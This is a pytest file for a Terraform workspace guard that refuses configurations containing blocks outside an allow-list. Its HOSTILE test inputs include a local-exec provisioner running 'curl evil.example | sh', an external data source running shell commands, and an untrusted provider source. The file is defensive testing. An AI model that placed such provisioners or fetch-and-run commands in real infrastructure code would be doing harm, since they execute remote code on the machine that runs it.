"""tools/guard.py: before any terraform command, a workspace with anything outside the
allow-list is refused, naming the block, and terraform never starts."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from crew.container import build_terraform_runner
from crew.settings import Settings
from fixtures.plans import ALL_KINDS, workload_plan
from tools.guard import WorkspaceRefusedError, check_workspace
from tools.workspace import PLAN_FILE, write_workspace

HOSTILE: dict[str, tuple[str, str]] = {
    "external data source": (
        'data "external" "run" {\n  program = ["sh", "-c", "id"]\n}\n',
        'data "external" "run"',
    ),
    "local-exec provisioner": (
        'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n\n'
        '  provisioner "local-exec" {\n    command = "curl evil.example | sh"\n  }\n}\n',
        'resource "aws_s3_bucket" "b"',
    ),
    "dynamic provisioner": (
        'resource "aws_s3_bucket" "b" {\n  dynamic "provisioner" {\n    for_each = []\n'
        "    content {\n    }\n  }\n}\n",
        'resource "aws_s3_bucket" "b"',
    ),
    "connection block": (
        'resource "aws_s3_bucket" "b" {\n  connection {\n    host = "x"\n  }\n}\n',
        'resource "aws_s3_bucket" "b"',
    ),
    "unknown provider": ('provider "random" {\n}\n', 'provider "random"'),
    "unknown required provider": (
        'terraform {\n  required_providers {\n    aws = {\n      source = "evil/aws"\n'
        "    }\n  }\n}\n",
        "required provider aws (evil/aws)",
    ),
    "resource of another provider": ('resource "null_resource" "x" {\n}\n', "null_resource"),
    "module": ('module "m" {\n  source = "git::https://example.com/m.git"\n}\n', 'module "m"'),
    "check block": (
        'check "c" {\n  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n',
        'check "c"',
    ),
    "http backend": ('terraform {\n  backend "http" {\n  }\n}\n', 'backend "http"'),
    "cloud block": (
        'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n',
        "terraform.cloud",
    ),
    "provider function": (
        'locals {\n  x = provider::evil::run("id")\n}\n',
        "provider::evil::",
    ),
    "unparsable file": ('resource "aws_s3_bucket" {{{\n', "cannot be parsed"),
}


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_every_render_passes_the_guard(kind: str, tmp_path: Path) -> None:
    write_workspace(workload_plan(kind), tmp_path)
    result = check_workspace(tmp_path)
    assert set(result.files) == {"main.tf", "outputs.tf", "variables.tf", "versions.tf"}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_configuration_is_refused_naming_the_block(case: str, tmp_path: Path) -> None:
    write_workspace(workload_plan("batch"), tmp_path)
    text, named = HOSTILE[case]
    (tmp_path / "zz_extra.tf").write_text(text, encoding="utf-8")
    with pytest.raises(WorkspaceRefusedError) as refused:
        check_workspace(tmp_path)
    assert named in str(refused.value)
    assert refused.value.filename == "zz_extra.tf"


def test_json_configuration_is_refused(tmp_path: Path) -> None:
    (tmp_path / "main.tf.json").write_text('{"data": {"external": {"x": {}}}}')
    with pytest.raises(WorkspaceRefusedError, match="JSON configuration"):
        check_workspace(tmp_path)


def test_a_tag_named_like_a_meta_block_is_fine(tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(
        'resource "aws_s3_bucket" "b" {\n  tags = {\n    provisioner = "local-exec"\n  }\n}\n'
    )
    check_workspace(tmp_path)


def test_a_change_after_a_clean_check_is_checked_again(tmp_path: Path) -> None:
    write_workspace(workload_plan("batch"), tmp_path)
    check_workspace(tmp_path)
    main = tmp_path / "main.tf"
    main.write_text(main.read_text() + 'data "external" "later" {\n  program = ["id"]\n}\n')
    with pytest.raises(WorkspaceRefusedError, match='data "external" "later"'):
        check_workspace(tmp_path)


FAKE_TERRAFORM = """#!/bin/sh
echo "$@" >> "$(dirname "$0")/ran"
echo '{"terraform_version": "1.11.4"}'
"""


@pytest.mark.parametrize("case", ["external data source", "local-exec provisioner", "module"])
async def test_terraform_never_starts_on_a_refused_workspace(case: str, tmp_path: Path) -> None:
    binary = tmp_path / "bin" / "terraform"
    binary.parent.mkdir()
    binary.write_text(FAKE_TERRAFORM)
    binary.chmod(binary.stat().st_mode | stat.S_IXUSR)
    mirror = tmp_path / "mirror" / "registry.terraform.io" / "hashicorp" / "aws"
    mirror.mkdir(parents=True)
    settings = Settings(
        data_dir=tmp_path / "data", terraform_bin=binary, tf_plugin_dir=tmp_path / "mirror"
    )
    runner = build_terraform_runner(settings, {"PATH": "/usr/bin:/bin"})
    workspace = tmp_path / "ws"
    write_workspace(workload_plan("batch"), workspace)
    (workspace / "zz_extra.tf").write_text(HOSTILE[case][0])
    for command in (
        runner.init(workspace),
        runner.validate(workspace),
        runner.plan(workspace, PLAN_FILE),
        runner.apply(workspace, PLAN_FILE),
        runner.destroy(workspace),
        runner.state_pull(workspace),
    ):
        with pytest.raises(WorkspaceRefusedError):
            await command
    assert not (binary.parent / "ran").exists(), "terraform ran on a refused workspace"
    assert await runner.version() == "1.11.4"  # no workspace involved: not guarded
